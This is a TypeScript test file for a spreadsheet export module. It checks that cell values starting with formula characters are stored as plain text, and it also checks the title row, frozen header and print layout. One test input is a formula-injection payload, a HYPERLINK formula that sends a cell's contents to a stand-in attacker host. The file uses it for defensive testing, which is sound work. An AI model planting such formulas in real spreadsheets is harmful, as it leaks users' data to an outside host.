import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { addSheet, HEADER_ROW, safeCell, xlsxSheet } from './xlsx.js';

async function read(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}

describe('xlsx sheets (platform/xlsx.ts)', () => {
  it('writes a text cell that starts with = + - @ tab or CR as text behind an apostrophe, never as a formula', async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+2', '-3', '@SUM(A1)', '\t=1', '\r=1', '王一'];
    const body = await xlsxSheet({
      title: '测试',
      columns: [
        { header: '姓名', value: (r: { name: string; n: number }) => r.name },
        { header: '数', value: (r) => r.n },
      ],
      rows: names.map((name, n) => ({ name, n: -n })),
    });
    const ws = await read(body);
    const got = names.map((_, i) => ws.getRow(4 + i).getCell(1));
    for (const c of got) {
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.formula).toBeUndefined();
    }
    expect(got.map((c) => c.value)).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      "'+1+2",
      "'-3",
      "'@SUM(A1)",
      "'\t=1",
      // XML reads a carriage return back as a line feed; what matters is the apostrophe before it
      expect.stringMatching(/^'[\r\n]=1$/),
      '王一',
    ]);
    // numbers stay numbers: a negative amount is not text
    expect(ws.getRow(5).getCell(2).value).toBe(-1);
    expect(safeCell('a=b')).toBe('a=b');
  });

  it('has a title row, a header row frozen and repeated on every printed page, and page numbers', async () => {
    const body = await xlsxSheet({
      title: '名册导出',
      note: '共 1 人',
      columns: [
        { header: '序号', value: (_r: { a: string }, i) => i + 1 },
        { header: '内容', value: (r) => r.a, width: 30 },
      ],
      rows: [{ a: 'x' }],
    });
    const ws = await read(body);
    expect(ws.getCell('A1').value).toBe('名册导出');
    expect(ws.getCell('A2').value).toBe('共 1 人');
    expect(ws.getRow(3).values).toEqual([undefined, '序号', '内容']);
    expect(ws.getRow(4).values).toEqual([undefined, 1, 'x']);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(ws.pageSetup.printTitlesRow).toBe('3:3');
    expect(ws.headerFooter.oddFooter).toContain('&P');
  });

  it('lays out an in-memory sheet the same way, for files with more below the list (a signature block)', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = addSheet(wb, { title: '名单', columns: [{ header: '姓名', value: (r: { n: string }) => r.n }], rows: [{ n: '-1' }] });
    ws.addRow(['制表人：']);
    const back = await read(Buffer.from(await wb.xlsx.writeBuffer()));
    expect([
      back.getCell('A1').value,
      back.getRow(HEADER_ROW).getCell(1).value,
      back.getRow(HEADER_ROW + 1).getCell(1).value,
      back.getCell('A5').value,
    ]).toEqual(['名单', '姓名', "'-1", '制表人：']);
    expect(back.views[0]).toMatchObject({ state: 'frozen', ySplit: HEADER_ROW });
    expect(back.pageSetup.printTitlesRow).toBe('3:3');
  });
});
